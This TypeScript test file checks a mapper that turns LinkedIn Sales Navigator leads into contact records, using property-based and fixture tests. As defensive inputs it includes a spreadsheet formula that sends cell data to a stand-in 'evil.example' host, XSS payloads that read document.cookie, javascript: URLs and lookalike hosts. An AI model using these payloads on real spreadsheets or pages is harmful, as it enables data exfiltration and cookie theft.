import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_POSITIONS, SCRAPED_TEXT_MAX } from '../../../lib/model/limits';
import { snapshotContactSchema } from '../../../lib/model/snapshot';
import { dedupeContacts, hasUsableName, mapLeadToContact, salesNavigatorLeadUrl } from '../../../lib/linkedin/map-lead';
import { leadSchema, leadSearchResponseSchema, type Lead } from '../../../lib/linkedin/schemas';
import page1Json from '../../fixtures/linkedin/lead-search-page-1.json';
import page2Json from '../../fixtures/linkedin/lead-search-page-2.json';

const page1 = leadSearchResponseSchema.parse(page1Json).elements.map((element) => leadSchema.parse(element));
const page2 = leadSearchResponseSchema.parse(page2Json).elements.map((element) => leadSchema.parse(element));
const MICROSOFT = '1035';

function lead(index: number, page: readonly Lead[] = page1): Lead {
  const found = page[index];
  if (!found) throw new Error(`No lead ${index} in the fixture`);
  return found;
}

describe('mapLeadToContact', () => {
  it('maps every fixture lead to a valid snapshot contact', () => {
    for (const item of [...page1, ...page2]) {
      for (const searched of [[MICROSOFT], []]) {
        expect(snapshotContactSchema.safeParse(mapLeadToContact(item, searched)).success).toBe(true);
      }
    }
  });

  it('maps a lead with several current positions from the position at the searched company', () => {
    expect(mapLeadToContact(lead(0), [MICROSOFT])).toEqual({
      baseContactId: 'urn:li:member:100000001',
      degree: 2,
      firstName: 'Ada',
      lastName: 'Lovelace',
      fullName: 'Ada Lovelace',
      headline: 'Building revenue teams across EMEA. Previously scaled sales at two SaaS start-ups.',
      role: 'VP Sales EMEA',
      companyName: 'Microsoft',
      location: 'Paris, Île-de-France, France',
      avatar:
        'https://media.licdn.com/dms/image/v2/D4E03AQHq1aB2cD3eF4/profile-displayphoto-shrink_800_800/profile-displayphoto-shrink_800_800/0/1700000000000?e=1767225600&v=beta&t=AQF1x2Y3z4800',
      seniority: ['VP'],
      positions: [
        {
          title: 'Board Advisor',
          companyName: 'Analytical Engines Ltd',
          companyUrl: 'https://www.linkedin.com/company/5550001',
          tenureInMonths: 38,
          location: 'London, England, United Kingdom',
        },
        {
          title: 'VP Sales EMEA',
          companyName: 'Microsoft',
          companyUrl: 'https://www.linkedin.com/company/1035',
          tenureInMonths: 16,
          location: 'Redmond, Washington',
        },
      ],
      linkedInSalesNavigatorProfileUrl: 'https://www.linkedin.com/sales/lead/ACwAAAAF9eEBa1b2c3d4e5f6g7h8i9j0kLmNoPq,NAME_SEARCH,x7Qz',
    });
  });

  it('falls back to the first current position when no searched company matches', () => {
    const contact = mapLeadToContact(lead(0), ['999']);
    expect(contact.role).toBe('Board Advisor');
    expect(contact.companyName).toBe('Analytical Engines Ltd');
    expect(contact.seniority).toBeUndefined();

    const grace = lead(1, page2);
    expect(mapLeadToContact(grace, []).role).toBe('Principal Engineer');
    expect(mapLeadToContact(grace, ['8880008'])).toMatchObject({
      role: 'Co-Founder & CEO',
      companyName: 'Compilers Inc',
      seniority: ['OWNER', 'CXO'],
      headline: 'Co-Founder & CEO',
    });
  });

  it('keeps Arabic names, and without summary or avatar uses the title as headline', () => {
    const contact = mapLeadToContact(lead(1), [MICROSOFT]);
    expect(contact).toMatchObject({
      firstName: 'ليلى',
      lastName: 'الحسن',
      fullName: 'ليلى الحسن',
      headline: 'مديرة المبيعات الإقليمية',
      role: 'مديرة المبيعات الإقليمية',
      location: 'Dubai, United Arab Emirates',
      positions: [
        {
          title: 'مديرة المبيعات الإقليمية',
          companyName: 'Microsoft',
          companyUrl: 'https://www.linkedin.com/company/1035',
          tenureInMonths: 7,
        },
      ],
    });
    expect(contact).not.toHaveProperty('avatar');
    expect(contact).not.toHaveProperty('seniority');
  });

  it('keeps Chinese text, trims the summary and picks the largest picture', () => {
    expect(mapLeadToContact(lead(2), [MICROSOFT])).toMatchObject({
      fullName: '王芳',
      headline: '负责大中华区企业客户的销售与渠道合作。',
      role: '销售总监 (Sales Director)',
      seniority: ['DIRECTOR'],
      location: '上海市, 中国',
      avatar: expect.stringContaining('shrink_200_200') as unknown,
      positions: [expect.objectContaining({ tenureInMonths: 48 }) as unknown],
    });
  });

  it('stores HTML, emoji and formula-like text as data, and drops a picture that is not https', () => {
    const contact = mapLeadToContact(lead(3), [MICROSOFT]);
    expect(contact.firstName).toBe('Sam 🚀');
    expect(contact.lastName).toBe('=HYPERLINK("https://evil.example/?x="&A1,"click")');
    expect(contact.headline).toBe('<img src=x onerror=alert(document.cookie)> Head of growth 🦄 | +SUM(A1:A9) | @evil');
    expect(contact.role).toBe('-Head of Growth <script>alert(1)</script>');
    expect(contact.seniority).toEqual(['DIRECTOR']);
    expect(contact).not.toHaveProperty('avatar');
    expect(contact.positions).toEqual([
      {
        title: '-Head of Growth <script>alert(1)</script>',
        companyName: 'Microsoft',
        companyUrl: 'https://www.linkedin.com/company/1035',
        tenureInMonths: 24,
      },
    ]);
  });

  it('maps a lead with nothing but its ids and name', () => {
    expect(mapLeadToContact(lead(4), [MICROSOFT])).toEqual({
      baseContactId: 'urn:li:member:100000005',
      firstName: 'LinkedIn',
      lastName: 'Member',
      fullName: 'LinkedIn Member',
      linkedInSalesNavigatorProfileUrl: 'https://www.linkedin.com/sales/lead/ACwAAAE5fG6hI7jK8lM9nO0pQ1rS2tU3vW4xY5z,OUT_OF_NETWORK,a1B2',
    });
  });

  it('prefers a current position to a past one', () => {
    const moved = leadSchema.parse({
      objectUrn: 'urn:li:member:42',
      currentPositions: [
        { title: 'CFO', companyName: 'Old Co', companyUrn: 'urn:li:fs_salesCompany:1035', current: false },
        { title: 'Finance Manager', companyName: 'New Co', companyUrn: 'urn:li:fs_salesCompany:77', current: true },
      ],
    });
    expect(mapLeadToContact(moved, [MICROSOFT])).toMatchObject({ role: 'Finance Manager', companyName: 'New Co', seniority: ['MANAGER'] });
  });
});

describe('dedupeContacts', () => {
  it('keeps the first occurrence of a lead repeated across pages, in order', () => {
    const contacts = [...page1, ...page2].map((item) => mapLeadToContact(item, [MICROSOFT]));
    expect(contacts).toHaveLength(7);
    const unique = dedupeContacts(contacts);
    expect(unique.map((contact) => contact.baseContactId)).toEqual([
      'urn:li:member:100000001',
      'urn:li:member:100000002',
      'urn:li:member:100000003',
      'urn:li:member:100000004',
      'urn:li:member:100000005',
      'urn:li:member:100000006',
    ]);
    expect(unique[2]).toBe(contacts[2]);
  });
});

describe('salesNavigatorLeadUrl', () => {
  it.each([
    ['urn:li:fs_salesProfile:(ACwAAA123,NAME_SEARCH,abcd)', 'https://www.linkedin.com/sales/lead/ACwAAA123,NAME_SEARCH,abcd'],
    ['urn:li:fs_salesProfile:(ACwAAA123,NAME_SEARCH)', undefined],
    ['urn:li:fs_salesProfile:(ACw/../x,NAME_SEARCH,abcd)', undefined],
    ['urn:li:fs_salesProfile:(javascript:alert(1),a,b)', undefined],
    ['urn:li:member:123', undefined],
    [undefined, undefined],
  ])('%j → %j', (urn, expected) => {
    expect(salesNavigatorLeadUrl(urn)).toBe(expected);
  });
});

describe('mapping arbitrary leads', () => {
  const text = fc.option(fc.string({ unit: 'grapheme' }), { nil: undefined });
  const hostileUrl = fc.oneof(
    fc.webUrl(),
    fc.string(),
    fc.constantFrom(
      'https://media.licdn.com/dms/image/',
      'http://media.licdn.com/dms/image/',
      'javascript:alert(1)//',
      'data:image/png;base64,',
      'https://evil.example/',
      '//media.licdn.com/',
      'https://media.licdn.com.evil.example/',
    ),
  );
  const idPart = fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{1,12}$/), fc.string());
  const arbitraryLead = fc.record(
    {
      objectUrn: fc.stringMatching(/^urn:li:member:\d{1,12}$/),
      entityUrn: fc.oneof(
        fc.tuple(idPart, idPart, idPart).map(([a, b, c]) => `urn:li:fs_salesProfile:(${a},${b},${c})`),
        fc.string(),
      ),
      firstName: text,
      lastName: text,
      fullName: text,
      geoRegion: text,
      summary: text,
      profilePictureDisplayImage: fc.record({
        rootUrl: hostileUrl,
        artifacts: fc.array(fc.record({ width: fc.nat(2000), height: fc.nat(2000), fileIdentifyingUrlPathSegment: fc.string() }), {
          maxLength: 4,
        }),
      }),
      currentPositions: fc.array(
        fc.record(
          {
            title: text,
            companyName: text,
            companyUrn: fc.oneof(
              fc.nat().map((n) => `urn:li:fs_salesCompany:${n}`),
              fc.string(),
            ),
            current: fc.boolean(),
            tenureAtPosition: fc.record({ numYears: fc.nat(60), numMonths: fc.nat(11) }, { requiredKeys: [] }),
          },
          { requiredKeys: [] },
        ),
        { maxLength: 4 },
      ),
    },
    { requiredKeys: ['objectUrn'] },
  );

  it('never yields an avatar but https on LinkedIn media, nor a profile URL off www.linkedin.com, and always a valid contact', () => {
    fc.assert(
      fc.property(arbitraryLead, fc.array(fc.nat().map(String), { maxLength: 3 }), (raw, searched) => {
        const contact = mapLeadToContact(leadSchema.parse(raw), searched);
        expect(snapshotContactSchema.safeParse(contact).success).toBe(true);
        expect(contact.baseContactId).toBe(raw.objectUrn);
        if (contact.avatar !== undefined) {
          const avatar = new URL(contact.avatar);
          expect(avatar.protocol).toBe('https:');
          expect(avatar.hostname).toMatch(/\.licdn\.com$/);
        }
        if (contact.linkedInSalesNavigatorProfileUrl !== undefined) {
          const profile = new URL(contact.linkedInSalesNavigatorProfileUrl);
          expect(profile.origin).toBe('https://www.linkedin.com');
          expect(profile.pathname.startsWith('/sales/lead/')).toBe(true);
        }
        for (const position of contact.positions ?? []) {
          if (position.companyUrl !== undefined) {
            expect(position.companyUrl).toMatch(/^https:\/\/www\.linkedin\.com\/company\/\d+$/);
          }
        }
      }),
    );
  });
});

describe('degree and usable names', () => {
  it('keeps LinkedIn’s network distance only when it is 1, 2 or 3', () => {
    for (const [degree, kept] of [
      [1, 1],
      [3, 3],
      [0, undefined],
      [4, undefined],
      [null, undefined],
    ] as const) {
      expect(mapLeadToContact({ ...lead(0), degree }, []).degree).toBe(kept);
    }
  });

  it('a hidden member ("LinkedIn Member") or a lead without any name has no usable name', () => {
    expect(hasUsableName({ fullName: 'Ada Lovelace' })).toBe(true);
    expect(hasUsableName({ firstName: 'Ada' })).toBe(true);
    for (const hidden of [
      { fullName: 'LinkedIn Member' },
      { fullName: '  linkedin member ' },
      { fullName: '   ' },
      {},
      { firstName: '', lastName: '' },
    ]) {
      expect(hasUsableName(hidden)).toBe(false);
    }
  });
});

describe('mapLeadToContact on hostile text', () => {
  const hostile = (overrides: Record<string, unknown>): Lead =>
    leadSchema.parse({ ...(page1Json.elements[0] as Record<string, unknown>), ...overrides });

  it('strips controls and bidi controls, mends half pairs, and leaves out what has nothing visible', () => {
    const contact = mapLeadToContact(
      hostile({
        firstName: '\u202EAda\u202C',
        lastName: 'Love\u0000lace\n',
        fullName: '\u200B\u200D',
        geoRegion: 'Paris\uD800',
        summary: '\u2066\u2069',
      }),
      [MICROSOFT],
    );
    expect(contact).toMatchObject({ firstName: 'Ada', lastName: 'Lovelace', fullName: 'Ada Lovelace', location: 'Paris\uFFFD' });
    expect(contact.headline).toBe(contact.role);
    expect(snapshotContactSchema.safeParse(contact).success).toBe(true);
  });

  it('cuts a 10,000-character summary and title with an ellipsis, and keeps at most 20 positions', () => {
    const positions = Array.from({ length: 100 }, (_, i) => ({
      title: `${'Director '.repeat(1200)}${i}`,
      companyName: 'Acme',
      current: true,
    }));
    const contact = mapLeadToContact(hostile({ summary: 'S'.repeat(10_000), currentPositions: positions }), []);
    expect(contact.headline).toBe(`${'S'.repeat(SCRAPED_TEXT_MAX.headline - 1)}…`);
    expect(contact.role).toHaveLength(SCRAPED_TEXT_MAX.title);
    expect(contact.role?.endsWith('…')).toBe(true);
    expect(contact.positions).toHaveLength(MAX_POSITIONS);
  });

  it('keeps markup as text: escaping belongs to whoever shows or exports it', () => {
    const contact = mapLeadToContact(hostile({ firstName: '<img src=x onerror=alert(1)>' }), []);
    expect(contact.firstName).toBe('<img src=x onerror=alert(1)>');
  });
});
